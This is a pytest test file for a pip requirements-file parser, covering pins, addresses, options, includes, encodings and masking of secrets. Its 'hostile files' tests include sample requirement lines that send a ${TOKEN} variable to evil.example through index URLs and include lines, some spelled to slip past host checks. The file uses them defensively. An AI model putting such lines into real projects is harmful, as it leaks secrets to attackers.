"""Requirements files: what is read, where it stands, and what becomes of lines and files that cannot be read."""

import io
import os
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from pip_assay.errors import NetworkError
from pip_assay.model import Origin, Place
from pip_assay.sources import requirements
from pip_assay.sources.requirements import Options, Requirements, lines, nested


def read_text(text: str, **environ: str) -> Requirements:
    """The text, read as a file."""
    return requirements.read(["-"], environ, None, io.BytesIO(text.encode()))


def only(text: str, **environ: str) -> requirements.Requirement:
    """The one requirement of the text."""
    found = read_text(text, **environ)
    assert found.problems == ()
    [requirement] = found.requirements
    return requirement


def problems(found: Requirements) -> list[str]:
    """Each problem as a person reads it, after its gap."""
    return [
        ": ".join(filter(None, (problem.gap, str(problem.place), problem.subject, problem.what))) + f"; {problem.hint}"
        for problem in found.problems
    ]


def test_a_pin_has_all_that_its_line_says() -> None:
    """Name, extras, version, marker, hashes and place are kept, and the text is what a resolver may read."""
    found = only(
        "\n  Zope.Interface[test,docs]==5.0 ; python_version < '3.12' \\\n"
        "    --hash=sha256:aa --hash=sha512:bb  # pinned by hand\n"
    )
    assert found.text == "Zope.Interface[test,docs]==5.0 ; python_version < '3.12'"
    assert found.place == Place("-", 2, 3)
    assert (found.spelling, found.name, found.version) == ("Zope.Interface", "zope-interface", "5.0")
    assert (found.specifier, found.extras, found.marker) == ("==5.0", ("test", "docs"), "python_version < '3.12'")
    assert found.hashes == ("sha256:aa", "sha512:bb")
    assert found.origin == Origin()


@pytest.mark.parametrize(
    ("specifier", "version"),
    [
        ("==1.0", "1.0"), (" == 1.0", "1.0"), ("===1.0-odd", "1.0-odd"), ("==1.0,>0.5", "1.0"),
        ("(==1.0)", "1.0"), ("==v1.0RC1", "v1.0RC1"), ("==1.*", ""), ("==1.0,==2.0", ""), ("~=1.0", ""), ("", ""),
    ],
)  # fmt: skip
def test_only_one_exact_version_is_certain(specifier: str, version: str) -> None:
    """A version is certain where one "==" or "===" without a wildcard names it, however it is written."""
    assert only(f"name{specifier}").version == version


@pytest.mark.parametrize(
    ("text", "kind", "name", "version", "column"),
    [
        ("https://files.example/My_Pkg-1.0-1-py3-none-any.whl#sha256=aa", "url", "my-pkg", "1.0", 23),
        ("https://files.example/my%5Fpkg-1.0.tar.gz", "url", "my-pkg", "1.0", 1),
        ("https://files.example/pkg-1.0.zip", "url", "", "", 1),
        ("https://files.example/pkg-1.0.zip#egg=Pkg", "url", "pkg", "1.0", 39),
        ("https://files.example/other-1.0.zip#egg=pkg", "url", "pkg", "", 41),
        ("https://code.example/group/r/archive/release-1.2.tar.gz", "url", "", "", 1),
        ("https://files.example/latest", "url", "", "", 1),
        ("pkg @ https://files.example/pkg-1.0-py3-none-any.whl", "url", "pkg", "1.0", 1),
        ("pkg @ https://files.example/other-1.0-py3-none-any.whl", "url", "pkg", "", 1),
        ("git+https://code.example/pkg-1.0.tar.gz@v1#egg=pkg[x]", "vcs", "pkg", "", 48),
        ("git+ssh://git@code.example/r.git", "vcs", "", "", 1),
        ("file:///srv/pkg-1.0.tar.gz", "path", "pkg", "1.0", 13),
        ("./dist/pkg-1.0-py3-none-any.whl", "path", "pkg", "1.0", 8),
        ("pkg-1.0-py3-none-any.whl", "path", "pkg", "1.0", 1),
        ("./folder[x]", "path", "", "", 1),
        ("..\\folder", "path", "", "", 1),
        ("-e .", "editable", "", "", 4),
        ("-e ./folder#egg=pkg", "editable", "pkg", "", 17),
        ("--editable=git+https://code.example/r.git@v1#egg=pkg&subdirectory=x", "editable", "pkg", "", 50),
        ("-e 'pkg @ git+https://code.example/r.git'", "editable", "pkg", "", 5),
        ("-e git://code.example/r.git#egg=pkg", "editable", "pkg", "", 33),
    ],
)
def test_an_address_says_what_it_leads_to(text: str, kind: str, name: str, version: str, column: int) -> None:
    """The name and version of a URL, path or editable are those that it gives for certain, and no guess."""
    found = only(text)
    assert (found.origin.kind, found.name, found.version, found.place.column) == (kind, name, version, column)
    assert found.editable == (kind == "editable")


@pytest.mark.parametrize(
    "text",
    [
        "https://user:s3cret@files.example/pkg.zip", "git+https://s3cret@code.example/r.git@main#egg=x",
        "https://files.example/pkg.zip?token=s3cret", "-e git+ssh://user:s3@cret@code.example/r#egg=x",
        "name @ https://${TOKEN}@files.example/x.whl", "https://files.example/${TOKEN}/x.whl",
        "https://proxy.example/https://u:s3cret@files.example/x.whl",
    ],
)  # fmt: skip
def test_no_secret_is_in_what_is_printed(text: str) -> None:
    """Credentials, queries and the values of variables are left out of everything but the resolver's text."""
    found = read_text(text, TOKEN="s3cret")
    shown = f"{found!r} {requirements.inventory(found, target='-')!r}"
    assert "s3cret" not in shown
    assert "cret@" not in shown


def test_variables_are_filled_in_but_not_in_the_text() -> None:
    """${CAPITALS} that are set give the name and version, while the resolver's text keeps the variable."""
    found = only("${NAME}==${PIN} # ${OTHER}", NAME="flask", PIN="1.0")
    assert (found.name, found.version, found.text) == ("flask", "1.0", "${NAME}==${PIN}")
    assert problems(read_text("flask==${UNSET}")) == [
        'unreadable: -:1: is no requirement that pip can read: "flask==${UNSET}"; write NAME==VERSION'
    ]


@pytest.mark.parametrize(
    ("line", "what"),
    [
        (
            "requests=1.0",
            'is no requirement that pip can read: "requests=1.0"; write == between the name and the version',
        ),
        ("two words", 'is no requirement that pip can read: "two words"; write NAME==VERSION'),
        (
            "name==1.0; python_version",
            'is no requirement that pip can read: "name==1.0; python_version"; write NAME==VERSION',
        ),
        (
            "name==1.0\t--hash=sha256:aa",
            'is no requirement that pip can read: "name==1.0\t--hash=sha256:aa"; write NAME==VERSION',
        ),
        (
            "-e https://files.example/x.zip",
            'is no requirement that pip can read: "https://files.example/x.zip"; write NAME==VERSION',
        ),
        ("-e name==1.0", 'is no requirement that pip can read: "name==1.0"; write NAME==VERSION'),
        (
            "bad http://u:pw@files.example",
            'is no requirement that pip can read: "bad http://files.example"; write NAME==VERSION',
        ),
        ("a" * 5000, "is too long to be a requirement; write NAME==VERSION"),
        ("--frobnicate=s3cret", "has an option that pip does not know: --frobnicate; correct the line"),
        ("-x", "has an option that pip does not know: -x; correct the line"),
        ("--pre=yes", "gives --pre a value, which it does not take; correct the line"),
        ("-r", "gives -r no value; correct the line"),
        ("--find-links 'x", "has a quotation mark without its partner; correct the line"),
        ("--no", "has an option that pip does not know: --no; correct the line"),
        ("--pre name==1.0", 'pip ignores "name==1.0"; correct the line'),
        ("- name==1.0", 'pip ignores "- name==1.0"; correct the line'),
    ],
)
def test_a_wrong_line_is_a_problem_and_the_rest_is_read(line: str, what: str) -> None:
    """A line that pip cannot read is one problem with its file and line, and no other line is lost."""
    found = read_text(f"first==1\n\n{line}\nlast==2")
    assert [each.name for each in found.requirements] == ["first", "last"]
    assert problems(found) == [f"unreadable: -:3: {what}"]


@pytest.mark.parametrize("line", ["name==1.0 --hash=md5:aa", "name==1.0 --frob", "name==1.0 --hash"])
def test_a_requirement_with_a_wrong_option_is_listed(line: str) -> None:
    """The requirement stands although its option is a problem."""
    found = read_text(line)
    assert [(each.name, each.version, each.hashes) for each in found.requirements] == [("name", "1.0", ())]
    assert len(found.problems) == 1


def test_options_are_gathered_and_never_printed() -> None:
    """Index addresses are kept as written for the resolver; their text form does not show them."""
    found = read_text(
        "-i https://user:s3cret@one.example/simple\n--extra-index-url=https://${TOKEN}@two.example/simple\n"
        "--trusted-host one.example\n--pre --prefer-binary --require-hashes\nname==1\n"
        "--no-binary :all:\n--only-binary=a,b\n-f https://links.example\n"
        "--only-final x --all-releases y --no-require-hashes\n",
        TOKEN="t0ken",
    )
    assert found.options == Options(
        index_url="https://user:s3cret@one.example/simple",
        extra_index_urls=("https://t0ken@two.example/simple",),
        find_links=("https://links.example",),
        no_binary=(":all:",),
        only_binary=("a,b",),
        prefer_binary=True,
        pre=True,
        all_releases=("y",),
        only_final=("x",),
        trusted_hosts=("one.example",),
        require_hashes=True,
        no_require_hashes=True,
    )
    assert "s3cret" not in repr(found)
    assert "t0ken" not in repr(found)
    assert read_text("-i https://one.example\n--no-index\n--extra-index-url https://two.example").options == Options(
        no_index=True
    )


# --- files ---


def test_files_are_included_from_where_they_are_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """-r and -c are relative to the file they stand in; constraints are kept apart from requirements."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "sub").mkdir()
    (tmp_path / "main.txt").write_text("a==1\n-r sub/base.txt\nb==2\n")
    (tmp_path / "sub" / "base.txt").write_text("c==3\n-c ../limits.txt\n")
    (tmp_path / "limits.txt").write_text("d==4\n")
    found = requirements.read(["main.txt"], {})
    assert found.files == ("main.txt", "sub/base.txt", "limits.txt")
    assert [(each.name, str(each.place)) for each in found.requirements] == [
        ("a", "main.txt:1"), ("c", "sub/base.txt:1"), ("b", "main.txt:3"),
    ]  # fmt: skip
    assert [(each.name, str(each.place)) for each in found.constraints] == [("d", "limits.txt:1")]
    assert found.problems == ()


@pytest.mark.parametrize(
    ("tree", "what"),
    [
        ({"a.txt": "x==1\n-r a.txt"}, "a.txt:2: includes itself; remove the line"),
        (
            {"a.txt": "x==1\n-r b.txt", "b.txt": "-r ./a.txt"},
            "b.txt:1: includes a.txt, which already includes b.txt; remove the line",
        ),
        (
            {"a.txt": "x==1\n-r b.txt", "b.txt": "-c c.txt", "c.txt": "\n-r a.txt"},
            "c.txt:2: includes a.txt, which already includes c.txt; remove the line",
        ),
    ],
)
def test_a_cycle_is_a_problem_that_names_both_files(
    tree: dict[str, str], what: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Files that include each other are read once each, and the line that closes the circle is a problem."""
    monkeypatch.chdir(tmp_path)
    for name, text in tree.items():
        (tmp_path / name).write_text(text)
    found = requirements.read(["a.txt"], {})
    assert problems(found) == [f"unreadable: {what}"]
    assert [each.name for each in found.requirements] == ["x"]


def test_a_missing_file_is_named_where_it_is_included(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file that is not there is a problem, at the including line if there is one, and the rest is read."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "main.txt").write_text("a==1\n-r gone.txt\nb==2")
    found = requirements.read(["main.txt", "lost.txt"], {})
    assert problems(found) == [
        "missing: main.txt:2: gone.txt: does not exist; check the path",
        "missing: lost.txt: lost.txt: does not exist; check the path",
    ]
    assert [each.name for each in found.requirements] == ["a", "b"]


@pytest.mark.parametrize(
    ("content", "what"),
    [
        (b"", "empty: -: -: holds no requirements; name another file"),
        (b"# nothing\n-i https://index.example/simple\n", "empty: -: -: holds no requirements; name another file"),
        (b"\x7fELF\x02\x01\x00\x00name==1\n", "unreadable: -: -: is not a text file; name a requirements file"),
        (b"name==1\n\xff\xfe\xfd", "unreadable: -: -: is not a text file; name a requirements file"),
        (b"# coding: klingon\nname==1", "unreadable: -: -: is not a text file; name a requirements file"),
        (b"# coding: hex\nname==1", "unreadable: -: -: is not a text file; name a requirements file"),
        (b"# coding: punycode\nname==1", "unreadable: -: -: is not a text file; name a requirements file"),
        (b"# coding: utf-7\nname==1 # +2AA-", "unreadable: -: -: is not a text file; name a requirements file"),
        ("name==1".encode("utf-16-le"), "unreadable: -: -: is not a text file; name a requirements file"),
        (b"#" * (10 * 1024 * 1024 + 1), "unreadable: -: -: is larger than 10.5 MB; name a requirements file"),
    ],
)
def test_a_file_that_holds_nothing_readable_is_one_problem(
    content: bytes, what: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An empty, binary, undecodable or huge file gives one problem and nothing else."""
    monkeypatch.setattr("locale.getencoding", lambda: "utf-8")
    found = requirements.read(["-"], {}, None, io.BytesIO(content))
    assert problems(found) == [what]
    assert found.requirements == ()


def test_the_encoding_of_the_locale_is_the_last_resort(monkeypatch: pytest.MonkeyPatch) -> None:
    """Bytes that are not UTF-8 and declare nothing are read as the locale says."""
    monkeypatch.setattr("locale.getencoding", lambda: "latin-1")
    assert lines.decode("# caf\xe9\nname==1".encode("latin-1")) == "# caf\xe9\nname==1"


def test_a_folder_is_no_file(tmp_path: Path) -> None:
    """A folder named as a requirements file is a problem."""
    found = requirements.read([str(tmp_path)], {})
    assert problems(found) == [f"unreadable: {tmp_path}: {tmp_path}: is a folder, not a file; name a file in it"]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_a_pipe_is_read(tmp_path: Path) -> None:
    """What `<(...)` gives is read as a file."""
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    writer = threading.Thread(target=pipe.write_text, args=("name==1\n",))
    writer.start()
    found = requirements.read([str(pipe)], {})
    writer.join()
    assert [each.name for each in found.requirements] == ["name"]


def test_files_on_servers_are_fetched() -> None:
    """An http(s) file is fetched, and so is what it includes, relative to it; no credentials are shown."""
    served = {
        "https://user:pw@files.example/a/main.txt": b"a==1\n-r ../b/base.txt\n-c limits.txt",
        "https://user:pw@files.example/b/base.txt": b"b==2",
    }

    def fetch(url: str) -> bytes:
        if url not in served:
            raise NetworkError("answered 500", url, "try again")
        return served[url]

    found = requirements.read(["https://user:pw@files.example/a/main.txt"], {}, fetch)
    assert [str(each.place) for each in found.requirements] == [
        "https://files.example/a/main.txt:1", "https://files.example/b/base.txt:1",
    ]  # fmt: skip
    assert problems(found) == [
        "unreadable: https://files.example/a/main.txt:3: https://files.example/a/limits.txt: answered 500; try again"
    ]


def test_a_file_on_a_server_is_a_problem_without_a_network(tmp_path: Path) -> None:
    """Where nothing may be fetched, the problem says so at the line that includes the file."""
    (tmp_path / "main.txt").write_text("a==1\n-r https://${TOKEN}@files.example/${TOKEN}/r.txt")
    found = requirements.read([str(tmp_path / "main.txt")], {"TOKEN": "s3cret"})
    assert problems(found) == [
        (
            f"unreadable: {tmp_path}/main.txt:2: https://files.example/${{TOKEN}}/r.txt: is on a server, "
            "and was not fetched; fetch it, and name the file"
        )
    ]


def test_a_file_url_is_read_from_the_disk(tmp_path: Path) -> None:
    """file: addresses lead to files."""
    (tmp_path / "with space.txt").write_text("a==1")
    found = requirements.read([(tmp_path / "with space.txt").as_uri(), "file://[x", "file:///%00"], {})
    assert [each.name for each in found.requirements] == ["a"]
    assert [problem.gap for problem in found.problems] == ["unreadable", "unreadable"]


def test_a_pylock_is_left_to_its_own_reader(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A pylock.toml or pylock.NAME.toml after -r is named with its place, not read here."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "main.txt").write_text("-r locks/pylock.toml\n-r pylock.dev.toml\n-c pylock.toml\n")
    found = requirements.read(["main.txt", "pylock.toml"], {})
    assert found.locks == (
        ("locks/pylock.toml", Place("main.txt", 1, 1)), ("pylock.dev.toml", Place("main.txt", 2, 1)),
        ("pylock.toml", Place("pylock.toml")),
    )  # fmt: skip
    assert problems(found) == ["missing: main.txt:3: pylock.toml: does not exist; check the path"]


# --- hostile files ---


def test_files_that_include_each_other_twice_are_read_once() -> None:
    """A tower of files that each include the next one twice costs one reading of each."""
    fetched = []

    def fetch(url: str) -> bytes:
        fetched.append(url)
        level = int(url.rpartition("/")[2])
        return f"-r {level + 1}\n-r {level + 1}\nname{level}==1".encode()

    found = requirements.read(["https://files.example/0"], {}, fetch)
    assert len(fetched) == nested.DEEPEST + 1
    assert problems(found)[0].startswith(f"unreadable: https://files.example/{nested.DEEPEST}:1:")
    assert len(found.problems) == 2


def test_the_number_of_files_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    """A server that makes up new names for ever is asked for a bounded number of files."""
    monkeypatch.setattr(nested, "MOST_FILES", 100)
    fetched = []

    def fetch(url: str) -> bytes:
        fetched.append(url)
        return f"-r {len(fetched)}a\n-r {len(fetched)}b\n".encode()

    found = requirements.read(["https://files.example/0"], {}, fetch)
    assert len(fetched) == nested.MOST_FILES
    assert {problem.gap for problem in found.problems} == {"unreadable"}


def test_a_file_of_wrong_lines_is_given_up() -> None:
    """After so many lines that pip cannot read, one problem says that the rest was not read."""
    found = read_text("name==1\n" + "no requirement\n" * 200)
    assert len(found.problems) == nested.MOST_WRONG + 1
    assert problems(found)[-1] == (
        "unreadable: -:102: has too many lines that cannot be read: the rest was not read; name a requirements file"
    )


def test_a_file_of_endless_lines_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    """The number of lines that are read is bounded, and a problem says where that was."""
    monkeypatch.setattr(nested, "MOST", 10)
    found = read_text("a\n" * 11)
    assert len(found.requirements) == 10
    assert problems(found) == ["unreadable: -:11: has too many lines: the rest was not read; name a requirements file"]


@pytest.mark.parametrize("marker", ["(" * 1500 + "os_name=='x'" + ")" * 1500, "(" * 3000, "os_name=='\\x'"])
def test_deep_markers_are_no_trap(marker: str) -> None:
    """A marker of thousands of brackets is judged, whatever the judgement is."""
    found = read_text(f"name==1; {marker}")
    assert len(found.requirements) + len(found.problems) == 1


def test_plain_pins_need_no_library() -> None:
    """Reading pins, markers and hashes as tools write them imports nothing that costs time."""
    script = """
import io, re, sys
before = set(sys.modules)
sys.path.insert(0, sys.argv[1])
from pip_assay.sources import requirements
text = "a==1 ; python_version < '3' and (os_name == 'x' or os_name == 'y') --hash=sha256:aa|-r b|c>=1|-e .|./d"
found = requirements.read(["-"], {}, None, io.BytesIO(text.replace("|", "\\n").encode()))
assert len(found.requirements) == 4
requirements.inventory(found, target="-")
heavy = {"packaging", "shlex", "urllib", "locale", "dataclasses", "enum", "logging", "pathlib"}
print(*sorted(heavy & (set(sys.modules) - before)))
"""
    source = str(Path(requirements.__file__).parents[3])
    done = subprocess.run([sys.executable, "-I", "-c", script, source], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == ""


def test_a_stranger_is_told_no_secret(tmp_path: Path) -> None:
    """A file from a pull request cannot have a variable of this machine sent to a host of its choice."""
    file = tmp_path / "requirements.txt"
    lines = (
        "--extra-index-url https://${TOKEN}@evil.example/simple", "--index-url https://evil.example/${TOKEN}/simple",
        "--extra-index-url https://${TOKEN}@own.example/simple", "-r https://evil.example/${TOKEN}.txt", "alpha==1.0",
        "--find-links ${HERE}/wheels",
    )  # fmt: skip
    file.write_text("\n".join(lines), encoding="utf-8")
    asked: list[str] = []

    def fetch(url: str) -> bytes:
        asked.append(url)
        return b"beta==1.0\n"

    found = requirements.read(
        [str(file)], {"TOKEN": "s3cret", "HERE": "here"}, fetch, None, {"own.example"}.__contains__
    )
    assert found.options.extra_index_urls == ("https://s3cret@own.example/simple",)
    assert found.options.find_links == ("here/wheels",)
    assert "s3cret" not in f"{asked}{found.options.index_url}{found.problems}"
    wrong = [problem.place.line for problem in found.problems if problem.place]
    assert wrong == [1, 2, 4]


STRANGE = [
    "-r https://own.example\\@evil.example/${TOKEN}",
    "-r http:/\t/evil.example/${TOKEN}",
    "--extra-index-url https://own.example\t@evil.example/${TOKEN}",
    "-r http:/evil.example/${TOKEN}",
    "alpha @ git+https://own.example@evil.example/${TOKEN}",
    "-i https://evil.example/${TOKEN}",
]


@pytest.mark.parametrize("line", STRANGE)
def test_no_spelling_of_an_address_tells_a_stranger_a_secret(line: str, tmp_path: Path) -> None:
    """Whatever an address may be taken for, a variable is filled in for the user's own hosts alone."""
    (tmp_path / "requirements.txt").write_text(f"{line}\n", encoding="utf-8")
    fetched: list[str] = []

    def fetch(url: str) -> bytes:
        fetched.append(url)
        return b""

    found = requirements.read(
        (str(tmp_path / "requirements.txt"),), {"TOKEN": "secret"}, fetch, None, {"own.example"}.__contains__
    )
    assert not any("secret" in each for each in fetched)
    assert "secret" not in f"{found.options} {[each.text for each in found.requirements]}"
    assert any("variable" in str(problem) for problem in found.problems)


def test_a_file_from_a_server_is_told_nothing(tmp_path: Path) -> None:
    """What it includes is looked for on its own server: a variable in such a line would go there."""
    (tmp_path / "requirements.txt").write_text("-r http://evil.example/inc.txt\n", encoding="utf-8")
    fetched: list[str] = []

    def fetch(url: str) -> bytes:
        fetched.append(url)
        return b"-r ${TOKEN}\n-r //evil.example/two/${TOKEN}\n-c sub/${TOKEN}.txt\n" if url.endswith("inc.txt") else b""

    requirements.read(
        (str(tmp_path / "requirements.txt"),), {"TOKEN": "secret"}, fetch, None, {"own.example"}.__contains__
    )
    assert fetched
    assert not any("secret" in each for each in fetched)


def test_a_pipe_that_a_file_names_is_not_waited_for(tmp_path: Path) -> None:
    """Only who types a path may mean a pipe: one that is named inside of what is audited may never end."""
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "requirements.txt").write_text("-r pipe\n", encoding="utf-8")
    found = requirements.read((str(tmp_path / "requirements.txt"),), {})
    assert ["is not a file" in problem.what for problem in found.problems] == [True]
